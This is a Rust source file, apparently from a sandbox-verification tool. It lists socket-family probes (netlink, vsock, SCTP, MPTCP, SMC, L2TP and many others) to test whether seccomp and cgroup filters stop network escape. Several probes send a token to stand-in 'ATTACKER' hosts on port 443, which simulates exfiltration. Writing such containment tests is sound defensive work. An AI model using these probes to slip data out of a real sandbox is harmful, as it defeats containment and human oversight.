//! Families of sockets beside the internet's: each is a network stack of its own.

use super::call::{at, inet, open, open_stream};
use super::{Aim, Failure, INET, Layer, Technique, UNSEEN};
use crate::sys::attempt;
use crate::verify::ground::{ATTACKER, ATTACKER_V6};

pub(super) const ROWS: &[Technique] = &[
    netlink("netlink-generic", "netlink, generic families", |_| {
        open(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_GENERIC).map(drop)
    }),
    netlink("netlink-sockets", "netlink, list and end sockets", |_| {
        open(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_SOCK_DIAG).map(drop)
    }),
    netlink("netlink-xfrm", "netlink, IPsec policies", |_| {
        open(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_XFRM).map(drop)
    }),
    netlink("netlink-filter", "netlink, packet filters", |_| {
        open(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER).map(drop)
    }),
    netlink("netlink-events", "netlink, device events", |_| {
        open(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_KOBJECT_UEVENT).map(drop)
    }),
    netlink("netlink-audit", "netlink, the audit log", |_| {
        open(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_AUDIT).map(drop)
    }),
    Technique::calls("vsock-listen", "vsock, let the host call", "22", SECCOMP, vsock_listen)
        .optional()
        .root_may(SEEN_BY_SECCOMP),
    Technique::wire("mptcp6", "Multipath TCP over IPv6", "5", INET, |a| {
        let fd = open_stream(ATTACKER_V6, libc::IPPROTO_MPTCP)?;
        super::call::connect(a, &fd, ATTACKER_V6, 443)?;
        super::call::send(a, &fd)
    })
    .optional(),
    Technique::wire("sctp-many", "SCTP, one socket to many", "6", INET, |a| {
        let fd = open(libc::AF_INET, libc::SOCK_SEQPACKET, libc::IPPROTO_SCTP)?;
        super::call::send_to(&fd, a.token.as_bytes(), 0, ATTACKER, 443)
    })
    .optional(),
    Technique::wire("dccp", "DCCP", "6", INET, |_| {
        const DCCP: (i32, i32) = (6, 33);
        let fd = open(libc::AF_INET, DCCP.0, DCCP.1)?;
        attempt::connect(&fd, &inet(ATTACKER, 443)).map_err(at("connect"))
    })
    .optional(),
    Technique::wire("smc", "SMC, which falls back to TCP", "22", SECCOMP, |a| {
        let fd = open(AF_SMC, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
        super::call::connect(a, &fd, ATTACKER, 443)?;
        super::call::send(a, &fd)
    })
    .optional()
    .root_may(SEEN_BY_SECCOMP),
    Technique::wire("l2tp", "L2TP over IP", "21", INET, |a| {
        const L2TP: i32 = 115;
        let fd = open(libc::AF_INET, libc::SOCK_DGRAM, L2TP)?;
        super::call::send_to(&fd, a.token.as_bytes(), 0, ATTACKER, 443)
    })
    .optional(),
    other("key", "IPsec keys (PF_KEY)", "14", |_| open(libc::AF_KEY, libc::SOCK_RAW, 2).map(drop)),
    other("crypto", "the kernel's ciphers (AF_ALG)", "22", |_| {
        open(libc::AF_ALG, libc::SOCK_SEQPACKET, 0).map(drop)
    }),
    other("tipc", "cluster messages (TIPC)", "22", |_| {
        open(libc::AF_TIPC, libc::SOCK_SEQPACKET, 0).map(drop)
    }),
    other("rds", "reliable datagrams (RDS)", "22", |_| {
        open(libc::AF_RDS, libc::SOCK_SEQPACKET, 0).map(drop)
    }),
    other("can", "vehicle bus (CAN)", "22", |_| open(libc::AF_CAN, libc::SOCK_RAW, 1).map(drop)),
    other("bluetooth", "Bluetooth", "22", |_| {
        open(libc::AF_BLUETOOTH, libc::SOCK_RAW, 1).map(drop)
    }),
    other("rxrpc", "AFS calls (RXRPC)", "22", |_| {
        open(libc::AF_RXRPC, libc::SOCK_DGRAM, libc::AF_INET).map(drop)
    }),
    other("nfc", "near field (NFC)", "22", |_| open(AF_NFC, libc::SOCK_SEQPACKET, 1).map(drop)),
    other("llc", "frames by LLC", "22", |_| open(libc::AF_LLC, libc::SOCK_DGRAM, 0).map(drop)),
    other("ieee802154", "low-power radio", "22", |_| {
        open(AF_IEEE802154, libc::SOCK_DGRAM, 0).map(drop)
    }),
    other("ppp", "PPP over Ethernet", "22", |_| {
        open(libc::AF_PPPOX, libc::SOCK_DGRAM, 0).map(drop)
    }),
    other("kcm", "messages over TCP (KCM)", "22", |_| {
        open(AF_KCM, libc::SOCK_SEQPACKET, 0).map(drop)
    }),
    other("qrtr", "a modem's or coprocessor's router (QRTR)", "22", |_| {
        open(AF_QIPCRTR, libc::SOCK_DGRAM, 0).map(drop)
    }),
    other("other-families", "any further family that there is", "22", any_other_family),
];

const fn netlink(
    name: &'static str,
    what: &'static str,
    act: fn(&Aim) -> Result<(), Failure>,
) -> Technique {
    Technique::calls(name, what, "22", SECCOMP, act).optional().root_may(SEEN_BY_SECCOMP)
}

const fn other(
    name: &'static str,
    what: &'static str,
    threat: &'static str,
    act: fn(&Aim) -> Result<(), Failure>,
) -> Technique {
    Technique::calls(name, what, threat, UNSEEN, act).optional().root_may(SEEN_BY_SECCOMP)
}

/// Whatever this kernel has that no row is about, today or tomorrow.
fn any_other_family(_: &Aim) -> Result<(), Failure> {
    let mut last = Ok(());
    for family in (1..=LAST_FAMILY).filter(|family| !HAVE_ROWS.contains(family)) {
        for kind in [libc::SOCK_STREAM, libc::SOCK_DGRAM, libc::SOCK_RAW, libc::SOCK_SEQPACKET] {
            last = open(family, kind, 0).map(drop);
            if last.is_ok() {
                return last;
            }
        }
    }
    last
}

/// Opens a port to which nothing but the machine's host can connect, for a moment.
fn vsock_listen(_: &Aim) -> Result<(), Failure> {
    let fd = open(libc::AF_VSOCK, libc::SOCK_STREAM, 0)?;
    let mut address = super::call::family_bytes(libc::AF_VSOCK).to_vec(); // struct sockaddr_vm
    address.extend([0, 0]);
    address.extend(u32::MAX.to_ne_bytes()); // any port
    address.extend(u32::MAX.to_ne_bytes()); // any context
    address.extend([0; 4]);
    attempt::bind(&fd, &address).map_err(at("bind"))?;
    attempt::listen(&fd).map_err(at("listen"))
}

const AF_SMC: i32 = 43;
const AF_NFC: i32 = 39;
const AF_IEEE802154: i32 = 36;
const AF_KCM: i32 = 41;
const AF_QIPCRTR: i32 = 42;
/// Beyond those of today (46 in Linux 6.18).
const LAST_FAMILY: i32 = 63;
const HAVE_ROWS: &[i32] = &[
    libc::AF_UNIX,
    libc::AF_INET,
    libc::AF_INET6,
    libc::AF_KEY,
    libc::AF_NETLINK,
    libc::AF_PACKET,
    libc::AF_RDS,
    libc::AF_PPPOX,
    libc::AF_LLC,
    libc::AF_CAN,
    libc::AF_TIPC,
    libc::AF_BLUETOOTH,
    libc::AF_RXRPC,
    AF_IEEE802154,
    libc::AF_ALG,
    AF_NFC,
    libc::AF_VSOCK,
    AF_KCM,
    AF_QIPCRTR,
    AF_SMC,
    libc::AF_XDP,
];
const SECCOMP: &[Layer] = &[Layer::Seccomp];
const SEEN_BY_SECCOMP: &str = "cgroup programs judge inet sockets only; seccomp denies this family";
